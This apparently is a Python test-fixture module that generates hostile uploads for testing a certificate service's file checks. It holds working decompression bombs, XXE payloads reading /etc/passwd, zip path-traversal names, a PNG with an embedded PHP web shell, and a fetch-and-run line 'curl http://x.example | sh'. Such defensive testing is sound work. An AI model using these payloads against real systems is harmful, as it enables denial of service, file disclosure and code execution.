"""Hostile files, each made here: bombs, polyglots, cut and spoilt ones, macros, scripts, names that are paths."""

import gzip
import io
import struct
import zipfile
import zlib
from collections.abc import Iterator

from PIL import Image
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    PdfObject,
    TextStringObject,
)

from tests.inspection import files as papers
from tests.tables import files as tables
from tests.threats.hidden_pdfs import hidden_pdfs

_END = b"startxref\n9\n%%EOF"
ACTIONS = (*("JavaScript", "Launch", "ImportData", "GoToE", "GoToR", "SubmitForm", "Rendition", "Movie", "Sound"),)
MARK = b"alert('VENTANILLA-CANARY')"
PLAIN = tables.xlsx(["folio", "resultado"], ["EC1057-22-7K3M9-4", "Competente"])
SHEET = "xl/worksheets/sheet1.xml"
Named = dict[str, bytes]


def as_papers() -> Named:
    """Sent where a paper is asked for: a PDF or a picture."""
    return {**dict(_active_pdfs()), **_broken_pdfs(), **_pictures(), **_other_kinds(), **_polyglots()}


def as_tables() -> Named:
    """Sent where a table is asked for."""
    entities = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "%s">%s]><worksheet>&z;</worksheet>' % (
        b"a" * 100,
        b"".join(b'<!ENTITY %c "%s">' % (letter, b"&%c;" % (letter - 1) * 50) for letter in range(98, 123)),
    )
    outside = (
        b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><worksheet>&x;</worksheet>'
    )
    deep = b"<worksheet>" + b"<a>" * 100_000
    return {
        "table: entities within entities": tables.with_parts(PLAIN, {SHEET: entities}),
        "table: an entity from a file": tables.with_parts(PLAIN, {SHEET: outside}),
        "table: the same in its strings": tables.with_parts(PLAIN, {"xl/sharedStrings.xml": outside}),
        "table: the same in its book": tables.with_parts(PLAIN, {"xl/workbook.xml": outside}),
        "table: elements without end": tables.with_parts(PLAIN, {SHEET: deep}),
        "table: a sheet of blanks": tables.with_parts(PLAIN, {SHEET: b" " * 200_000_000}),
        "table: a lie about its size": tables.lying(
            tables.with_parts(PLAIN, {SHEET: b" " * 200_000_000}), SHEET, 500
        ),
        "table: macros": tables.with_parts(PLAIN, {"xl/vbaProject.bin": b"Sub AutoOpen()"}),
        "table: macros under capital letters": tables.with_parts(PLAIN, {"XL/VBAPROJECT.BIN": b"Sub AutoOpen()"}),
        "table: links to elsewhere": tables.with_parts(
            PLAIN, {"xl/externalLinks/externalLink1.xml": b"<externalLink/>"}
        ),
        "table: a data connection": tables.with_parts(PLAIN, {"xl/connections.xml": b"<connections/>"}),
        "table: formulas that call": tables.xlsx(["folio", "x"], ["a", '=HYPERLINK("http://x.example")']),
        "table: cut in half": PLAIN[: len(PLAIN) // 2],
        "table: of the old kind": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + MARK * 100,
        "table: a page": b"<html><table><tr><td>" + MARK + b"</td></tr></table></html>",
        "table: a path for a part": tables.with_parts(PLAIN, {"../../../etc/cron.d/x": MARK, SHEET: b"<"}),
        "csv: a quote without end": b'folio,resultado\n"' + b"a" * 3_000_000,
        "csv: half characters": b"\xff\xfef\x00o\x00\x00\xd8\n\x00",
        "csv: columns without number": b",".join([b"a"] * 100_000) + b"\n" + b",".join([b"b"] * 100_000),
        "csv: one endless cell": b"folio,resultado\na," + b"x" * 4_000_000,
        "csv: nothing but zeros": bytes(1_000_000),
    }


def as_bundles() -> Named:
    """Sent where a ZIP of certificates is asked for."""
    inside = papers.pdf(1)
    return {
        "zip: a bomb": tables.zip_of({"EC1057-22-7K3M9-4.pdf": b"%PDF-" + b" " * 60_000_000}),
        "zip: overlapping parts": _overlapping(200),
        "zip: a zip within": tables.zip_of({"a.pdf": tables.zip_of({"b.pdf": inside})}),
        "zip: a link": _zip_with_link(),
        "zip: a program named as a paper": tables.zip_of({"a.pdf": b"MZ" + MARK * 10}),
        "zip: a script in a paper": tables.zip_of({"a.pdf": papers.pdf_with_script()}),
        "zip: more than anybody has": tables.zip_of({f"{number}.pdf": b"%PDF-" for number in range(600)}),
        "zip: a directory that lies": _zip_of_lies(),
        "zip: cut off": tables.zip_of({"a.pdf": inside})[:-30],
    }


def with_paths() -> bytes:
    """A ZIP whose names would lead out of a folder, or hide what they are."""
    names = (
        "../../../../etc/cron.d/EC1057-22-7K3M9-4.pdf",
        "/etc/EC1057-22-NASDV-C.pdf",
        "..\\..\\windows\\a.pdf",
        "a\x00/../b.pdf",
        "\u202efdp.exe\u202c.pdf",
        "C:\\autoexec.pdf",
        "con.pdf",
        "a" * 240 + ".pdf",
    )
    return tables.zip_of(dict.fromkeys(names, papers.pdf(1)))


def _entry(key: str, value: str) -> DictionaryObject:
    return DictionaryObject({NameObject(key): NameObject(value)})


def _active_pdfs() -> Iterator[tuple[str, bytes]]:
    """PDFs that do something, in every place where a reader looks for it."""
    for action in ACTIONS:
        yield f"pdf: opens with {action}", papers.pdf_with_action({"/S": f"/{action}"})
        for algorithm in ("RC4-128", "AES-256"):
            encrypted = papers.pdf_with_action({"/S": f"/{action}"}, algorithm)
            yield f"pdf: {action}, encrypted with {algorithm}", encrypted
    for kind in ("RichMedia", "Screen", "3D", "FileAttachment", "Movie", "Sound"):
        yield f"pdf: a note of kind {kind}", _pdf_with_note(_entry("/Subtype", f"/{kind}"))
    script = _entry("/S", "/JavaScript")
    script[NameObject("/JS")] = TextStringObject("1")
    for key in ("/A", "/PA"):
        link = _entry("/Subtype", "/Link")
        link[NameObject(key)] = script
        yield f"pdf: a link with a script at {key}", _pdf_with_note(link)
    moments = DictionaryObject({NameObject("/O"): script})
    for place in ("page", "catalogue"):
        yield f"pdf: a script when its {place} is shown", _pdf_with("/AA", moments, on_page=place == "page")
    first = _entry("/S", "/URI")
    first[NameObject("/Next")] = ArrayObject([script])
    yield "pdf: a script that follows something else", _pdf_with("/OpenAction", first)
    form = DictionaryObject({NameObject("/XFA"): TextStringObject("<xdp/>")})
    yield "pdf: a form that computes", _pdf_with("/AcroForm", form)
    yield "pdf: a script by name", papers.pdf_with_script()
    yield "pdf: a script spelt in hex and packed away", papers.pdf_with_hidden_script()
    yield "pdf: a program attached", papers.pdf_with_attachment()
    sending = papers.pdf_with_action({"/S": "/SubmitForm"})
    yield "pdf: a form that sends, spelt in hex", sending.replace(b"/SubmitForm", b"/Submit#46orm")
    yield from hidden_pdfs(ACTIONS)


def _pdf_with(key: str, value: PdfObject, *, on_page: bool = False) -> bytes:
    writer = papers._writer(1)
    (writer.pages[0] if on_page else writer.root_object)[NameObject(key)] = value
    return papers._written(writer)


def _pdf_with_note(note: DictionaryObject) -> bytes:
    note[NameObject("/Type")] = NameObject("/Annot")
    note[NameObject("/Rect")] = ArrayObject([NumberObject(number) for number in (0, 0, 9, 9)])
    return _pdf_with("/Annots", ArrayObject([note]), on_page=True)


def _broken_pdfs() -> Named:
    whole = papers.pdf(2)
    nested = b"%PDF-1.7\n1 0 obj" + b"[" * 200_000 + b"endobj\nstartxref\n9\n%%EOF"
    return {
        "pdf: cut in half": whole[: len(whole) // 2],
        "pdf: a header and nothing": b"%PDF-1.7\n%%EOF\nstartxref\n%%EOF",
        "pdf: a table that points at itself": b"%PDF-1.7\nxref\n0 1\ntrailer<</Prev 9/Root 1 0 R>>\n" + _END,
        "pdf: nested without end": nested,
        "pdf: pages without number": papers.pdf_with_a_wide_tree(),
        "pdf: pages that are each other's": _pdf_of_a_ring(),
        "pdf: two thousand pages": papers.pdf(2000),
        "pdf: a password": papers.pdf_with_password("x", "AES-256"),
        "pdf: a stream that swells": _pdf_bomb(),
        "pdf: looks that take hours": papers.pdf_without_end(),
    }


def _pdf_of_a_ring() -> bytes:
    """The page tree holds itself."""
    writer = papers._writer(1)
    tree = writer.root_object["/Pages"].get_object()
    assert isinstance(tree, DictionaryObject)
    tree[NameObject("/Kids")] = ArrayObject([writer.root_object.raw_get("/Pages")])
    return papers._written(writer)


def _pdf_bomb() -> bytes:
    """A cross-reference stream that says to be small and unpacks to a gigabyte."""
    squeeze = zlib.compressobj(9)
    packed = b"".join(squeeze.compress(bytes(1 << 20)) for _ in range(1024)) + squeeze.flush()
    about = b"/Type/XRef/Size 7/W[1 4 1]/Root 1 0 R/Filter/FlateDecode/Length %d" % len(packed)
    body = b"%PDF-1.5\n1 0 obj<</Type/Catalog>>endobj\n"
    return body + b"6 0 obj<<%s>>stream\n%s\nendstream endobj\nstartxref\n%d\n%%%%EOF\n" % (
        about,
        packed,
        len(body),
    )


def _pictures() -> Named:
    whole, noisy = papers.jpg(), papers.noisy_png()
    return {
        "png: a bomb": papers.png_bomb(),
        "png: a larger bomb": papers.png_bomb(60_000),
        "png: cut off": noisy[:-200],
        "png: no picture behind its name": b"\x89PNG\r\n\x1a\n" + MARK * 100,
        "png: a size of nothing": _png_of_size(0, 0),
        "png: a size beyond numbers": _png_of_size(0x7FFFFFFF, 0x7FFFFFFF),
        "png: words that swell": _png_with_text(),
        "jpg: cut off": whole[: len(whole) // 3],
        "jpg: a size beyond its data": _jpg_of_size(65_000, 65_000),
        "jpg: scans without end": papers.jpg(progressive=True)[:-2] + b"\xff\xda" * 3000,
    }


def _png_of_size(width: int, height: int) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)
    parts = ((b"IHDR", header), (b"IDAT", zlib.compress(b"\x00" * 10)), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(papers._chunk(*part) for part in parts)


def _png_with_text() -> bytes:
    """A compressed note of 200 MB."""
    squeeze = zlib.compressobj(9)
    packed = b"".join(squeeze.compress(b"a" * (1 << 20)) for _ in range(200)) + squeeze.flush()
    whole = papers.png()
    return whole[:33] + papers._chunk(b"zTXt", b"Comment\x00\x00" + packed) + whole[33:]


def _jpg_of_size(width: int, height: int) -> bytes:
    whole = bytearray(papers.jpg())
    place = whole.index(b"\xff\xc0") + 5
    whole[place : place + 4] = struct.pack(">HH", height, width)
    return bytes(whole)


def _other_kinds() -> Named:
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="%s"><script>%s</script></svg>' % (MARK, MARK)
    outside = b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>'
    word = papers.zip_with("[Content_Types].xml", "word/document.xml", "word/vbaProject.bin")
    return {
        "svg: a script": svg,
        "svg: an entity from a file": b'<?xml version="1.0"?>' + outside,
        "svg: packed": gzip.compress(svg),
        "html: a script": b"<!doctype html><script>" + MARK + b"</script>",
        "hta: a program in a page": b"<script language=vbscript>" + MARK + b"</script>",
        "word: macros": word,
        "word: of the old kind": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"Macros" * 100,
        "rtf: an object": b"{\\rtf1{\\object\\objupdate{\\*\\objdata 0105}}}",
        "program: of Windows": b"MZ\x90\x00" + MARK * 9,
        "program: of Linux": b"\x7fELF\x02\x01\x01" + bytes(99),
        "program: a shell's": b"#!/bin/sh\ncurl http://x.example | sh\n",
        "program: a link of Windows": b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(99),
        "archive: rar": b"Rar!\x1a\x07\x01\x00" + bytes(99),
        "archive: within archives": tables.zip_of({"a.zip": tables.zip_of({"b.zip": tables.zip_of({})})}),
        "gif: a script": b"GIF89a/*" + b"\x00" * 20 + b"*/=1;" + MARK,
        "postscript: a program": b"%!PS-Adobe-3.0\n(%pipe%id) (r) file",
        "tiff: a directory without end": b"II*\x00\x08\x00\x00\x00\xff\xff" + b"\x00" * 500,
    }


def _polyglots() -> Named:
    """Two things at once: what is kept may be one of them only."""
    script = b"*/=1;" + MARK + b";/*"
    out = io.BytesIO()
    Image.effect_noise((64, 64), 60).convert("RGB").save(out, "JPEG", comment=script)
    page = b"<html><body><script>" + MARK + b"</script></body></html>"
    chunk = papers._chunk(b"tEXt", b"Comment\x00<?php system($_GET[0]); ?>" + MARK)
    whole = papers.png()
    return {
        "polyglot: pdf and zip": papers.pdf_that_is_a_zip(),
        "polyglot: jpg and script": out.getvalue(),
        "polyglot: jpg and zip": papers.jpg() + tables.zip_of({"a.exe": b"MZ" + MARK}),
        "polyglot: jpg and page": papers.jpg() + page,
        "polyglot: png and php": whole[:33] + chunk + whole[33:],
        "polyglot: png and what follows it": papers.png() + page,
        "polyglot: page and pdf": page + papers.pdf(),
        "polyglot: picture and pdf": b"GIF89a" + papers.pdf(),
    }


def _overlapping(times: int) -> bytes:
    """Many names for one part."""
    part = tables.zip_of({"a.pdf": b"%PDF-" + b" " * 9_000_000})
    place = part.index(b"PK\x01\x02")
    end = part.index(b"PK\x05\x06")
    directory = part[place:end] * times
    record = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, times, times, len(directory), place, 0)
    return part[:place] + directory + record


def _zip_with_link() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        link = zipfile.ZipInfo("a.pdf")
        link.create_system, link.external_attr = 3, 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return out.getvalue()


def _zip_of_lies() -> bytes:
    whole = bytearray(tables.zip_of({"a.pdf": papers.pdf(1)}))
    whole[-10:-6] = struct.pack("<I", 0xFFFFFFF0)
    return bytes(whole)
